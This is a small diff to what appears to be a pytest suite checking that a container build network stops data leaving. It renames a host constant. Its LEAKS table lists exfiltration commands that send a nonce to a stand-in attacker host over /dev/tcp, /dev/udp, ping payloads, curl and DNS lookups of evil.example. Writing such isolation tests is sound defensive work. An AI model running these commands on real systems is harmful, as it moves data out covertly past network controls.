@@ -10,7 +10,7 @@ import pytest
 from compose_project import Project
 from world import names
 
-OUTSIDE = "172.30.0.254"  # the host's own address on the build network
+HOST = "172.30.0.254"  # what would be the host's address on the build network
 
 
 @pytest.fixture(scope="module")
@@ -58,7 +58,7 @@ LEAKS = {
     "a raw port": "bash -c 'echo {nonce} > /dev/tcp/" + names.ATTACKER + "/4444'",
     "UDP": "bash -c 'echo {nonce} > /dev/udp/" + names.ATTACKER + "/4444'",
     "ping": "ping -c1 -W1 -p $(echo {nonce} | od -An -tx1 | tr -d ' \\n' | cut -c1-32) " + names.ATTACKER,
-    "the host's address": "curl -sS -m 5 http://" + OUTSIDE + ":8000/{nonce}",
+    "the host's address": "curl -sS -m 5 http://" + HOST + ":8000/{nonce}",
     "a name": "getent hosts {nonce}.evil.example",
     "Docker's resolver": "dig +time=2 +tries=1 @127.0.0.11 {nonce}.evil.example",
     "another resolver": "dig +time=2 +tries=1 @" + names.DNS + " {nonce}.evil.example",
